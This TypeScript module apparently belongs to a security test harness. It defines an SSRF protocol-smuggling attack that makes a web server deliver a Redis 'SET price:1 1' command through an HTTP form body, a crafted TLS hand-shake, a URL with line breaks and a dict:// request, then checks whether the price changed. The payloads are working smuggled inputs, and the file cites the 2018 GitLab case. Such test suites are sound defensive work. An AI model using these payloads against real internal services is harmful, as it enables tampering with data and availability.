import type { Attack, Way } from '../attack.ts';
import type { Grounds } from '../grounds/grounds.ts';
import { places } from '../grounds/policy.ts';
import { stopBy } from './as-user.ts';
import { send } from './raw.ts';

const order = 'SET price:1 1';

/** The web server itself is made to speak: nobody has told it a password. */
function fromTheWebServer(name: string, ...lines: readonly string[]): Way<Grounds> {
  return {
    name,
    attempt: async (grounds) => {
      const strike = { from: places.web, host: '127.0.0.1', port: grounds.ports.gateway };
      const bytes = lines.map((line) => `${line}\r\n`).join('');
      return stopBy(grounds, await send(strike, Buffer.from(bytes, 'latin1')));
    },
  };
}

/** A hand-shake whose session id, which the server that is asked chooses, is a command. */
const handshake = `\u0016\u0003\u0001\u0000\u004d\u0001\u0000\u0000\u0049\u0003\u0003${'r'.repeat(32)}\u0020`;

export const smuggledLines: Attack<Grounds> = {
  name: 'smuggled-lines',
  title: 'A web server is made to fetch an address, and what it sends is a command for Redis',
  story:
    'In 2018 an address for a repository, with line breaks in it, made GitLab write jobs into its own Redis and run ' +
    'them; in 2020 TLS hand-shakes carried such lines too. Whoever listens on an inner network is spoken to like that.',
  door: 'gateway',
  harms: ['integrity', 'availability'],
  goal: 'the price of a product is 1',
  crosses: ['gateway', 'server'],
  ways: [
    fromTheWebServer('a form that a browser posts', 'POST / HTTP/1.1', 'Host: redis', '', order),
    fromTheWebServer('a hand-shake of TLS', handshake, order),
    fromTheWebServer('an address with line breaks', 'GET /', order, ' HTTP/1.1', 'Host: redis'),
    fromTheWebServer('dict://, of which curl makes a command', 'CLIENT libcurl', order, 'QUIT'),
  ],
  reached: async ({ store }) =>
    (await store.text('GET', 'price:1')) === '1'
      ? { kind: 'reached', seen: 'price:1 is 1' }
      : { kind: 'missed' },
};
